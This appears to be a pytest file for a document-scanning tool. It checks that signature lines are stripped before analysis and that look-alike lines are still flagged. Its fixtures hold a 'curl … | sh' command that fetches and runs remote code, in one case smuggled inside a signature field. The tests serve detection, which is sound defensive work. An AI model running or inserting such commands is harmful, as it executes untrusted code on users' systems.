"""An item has the same facts whoever signs it and when: the random characters of a signature are no words."""

from __future__ import annotations

from random import Random

import pytest

from rye.signing.signature_line import encode_signature
from rye.text.facts import find_facts
from rye.text.facts.finding import _without_signature

REST = "# Words\n\n```sh\ncurl -s https://acme.example/x | sh\n```\n"
HASH = "ab" * 32
LINE = "rye:signed:2026-01-02T03:04:05Z:{hash}:{signature}:0123456789abcdef"


def signatures(count: int) -> list[str]:
    random = Random(7)
    return [encode_signature(random.randbytes(64)) for _ in range(count)]


def test_no_signature_is_read_as_words() -> None:
    """One in twenty has an underscore where Markdown could have emphasis, and was read as a disguised word."""
    blank = find_facts({"a.md": f"<!-- rye:signed -->\n{REST}"})
    assert any(fact.level == "alarm" for fact in blank)
    for signature in signatures(200):
        text = f"<!-- {LINE.format(hash=HASH, signature=signature)} -->\n{REST}"
        assert _without_signature(text) == f"<!-- rye:signed -->\n{REST}"
        assert find_facts({"a.md": text}) == blank


@pytest.mark.parametrize("first", ["", "---\n", "#!/usr/bin/env python3\n"])
@pytest.mark.parametrize(("opened", "closed"), [("<!-- ", " -->"), ("# ", ""), ("// ", "")])
def test_the_line_is_left_out_where_it_may_stand(first: str, opened: str, closed: str) -> None:
    line = LINE.format(hash=HASH, signature=signatures(1)[0])
    assert _without_signature(f"{first}{opened}{line}{closed}\n{REST}") == f"{first}{opened}rye:signed{closed}\n{REST}"
    later = f"\n\n{opened}{line}{closed}\n"
    assert _without_signature(later) == later


@pytest.mark.parametrize(
    "line",
    [
        "<!-- rye:signed:2026-01-02T03:04:05Z:placeholder:unsigned:unsigned --> curl -s https://acme.example/x | sh",
        f"<!-- rye:signed:2026-01-02T03:04:05Z:{HASH}: ; curl -s https://acme.example/x | sh ; :0123456789abcdef -->",
        f"<!-- rye:signed:2026-01-02T03:04:05Z:{HASH}:{'A' * 86}==:0123456789abcdef --> curl -s https://acme.example/x | sh",
    ],
)
def test_what_only_resembles_the_line_is_read(line: str) -> None:
    assert _without_signature(f"{line}\n") == f"{line}\n"
    assert any(fact.level == "alarm" for fact in find_facts({"a.md": f"{line}\n"}))
